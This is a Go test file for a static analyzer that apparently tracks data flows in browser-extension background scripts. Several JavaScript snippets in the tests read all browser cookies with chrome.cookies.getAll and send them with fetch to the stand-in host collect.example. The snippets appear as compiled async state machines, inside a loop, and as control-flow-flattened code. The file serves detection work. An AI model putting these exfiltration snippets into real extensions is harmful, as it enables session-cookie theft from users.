package analysis

import "testing"

// What compilers to JavaScript of 2009 make of: async () => { const l = await chrome.cookies.getAll({}); await fetch(…) }.
func TestFlowsOfCompiledAsyncFunctions(t *testing.T) {
	const helpers = `
		var w = this && this.__awaiter || function (self, args, P, make) {
			return new (P || (P = Promise))(function (resolve, reject) {
				function next(v) { try { step(make.next(v)) } catch (e) { reject(e) } }
				function step(r) { r.done ? resolve(r.value) : new P(function (ok) { ok(r.value) }).then(next, reject) }
				step((make = make.apply(self, args || [])).next());
			});
		};
		var g = this && this.__generator || function (self, body) {
			var state = {label: 0, sent: function () { if (given[0] & 1) throw given[1]; return given[1] }, trys: [], ops: []}, given;
			return {next: function (v) { given = [0, v]; var op = body.call(self, state); return {value: op[1], done: op[0] != 4} }};
		};`
	for name, code := range map[string]string{
		"one step":  `switch (s.label) { case 0: return [4, chrome.cookies.getAll({})]; case 1: return [2, fetch("https://collect.example/x", {body: JSON.stringify(s.sent())})] }`,
		"kept":      `switch (s.label) { case 0: return [4, chrome.cookies.getAll({})]; case 1: l = s.sent(); return [4, 0]; case 2: s.sent(); fetch("https://collect.example/x", {body: JSON.stringify(l)}); return [2] }`,
		"in a loop": `switch (s.label) { case 0: l = []; s.label = 1; case 1: if (!more()) return [3, 3]; return [4, chrome.cookies.getAll({})]; case 2: l.push(s.sent()); return [3, 1]; case 3: fetch("https://collect.example/x", {body: JSON.stringify(l)}); return [2] }`,
	} {
		t.Run(name, func(t *testing.T) {
			r := background(t, "bg.js", helpers+`w(void 0, void 0, void 0, function () { var l; return g(this, function (s) { `+code+` }) })`)
			if !hasFlow(r, "cookies", "fetch", "collect.example") {
				t.Errorf("flows %+v", r.Flows)
			}
		})
	}
	r := background(t, "bg.js", `var e; try { go() } catch (x) { e = {error: x} } finally { if (e) throw e.error }
		chrome.cookies.getAll({}, l => fetch("https://collect.example/x", {body: JSON.stringify(l)}))`)
	if !hasFlow(r, "cookies", "fetch", "collect.example") {
		t.Errorf("after a loop: flows %+v", r.Flows)
	}
	flat := background(t, "bg.js", `var l, steps = "2|0|1".split("|"), i = 0; while (true) { switch (steps[i++]) {
		case "0": u = "https://collect.example/x"; continue; case "1": chrome.cookies.getAll({}, c => fetch(u, {body: JSON.stringify(c)})); continue; case "2": var u; continue } break }`)
	if !hasFlow(flat, "cookies", "fetch", "collect.example") {
		t.Errorf("flattened: flows %+v", flat.Flows)
	}
}
